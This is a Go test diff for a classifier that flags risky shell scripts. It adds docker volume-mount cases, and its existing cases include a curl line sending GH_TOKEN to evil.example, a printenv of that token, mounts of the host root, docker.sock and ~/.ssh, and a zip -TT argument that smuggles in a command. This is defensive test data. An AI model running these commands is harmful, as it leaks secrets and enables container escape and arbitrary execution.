@@ -25,6 +25,14 @@ func TestOtherRepositoryAndEnvNames(t *testing.T) {
 		{script: "printenv GH_TOKEN", flagged: true, want: "prints the secret variable GH_TOKEN"},
 		{script: `curl -d "$(printenv GH_TOKEN)" https://evil.example`, flagged: true, want: "sends secret data"},
 		{script: "zip -qr site.zip public", class: ClassOther},
+		{script: "docker run --rm -v .:/src -v cache:/c alpine ls", class: ClassOther},
+		{script: "docker run -v ./build:/out alpine ls", class: ClassOther},
+		{script: "docker run -v /:/mnt alpine ls", flagged: true, want: "the host's /"},
+		{script: "docker run --volume=/var/run/docker.sock:/s alpine ls", flagged: true, want: "docker.sock"},
+		{script: "docker run -v ~/.ssh:/k:ro alpine ls", flagged: true, want: "~/.ssh"},
+		{script: "docker run -v ../x:/x alpine ls", flagged: true, want: "../x"},
+		{script: `docker run -v "$X":/x alpine ls`, flagged: true, want: "decided at run time"},
+		{script: `docker run -v "$X" alpine ls`, flagged: true, want: "decided at run time"},
 		{script: "zip -qTT 'sh #' out.zip a", flagged: true, want: "-qTT"},
 	}
 	for _, c := range cases {
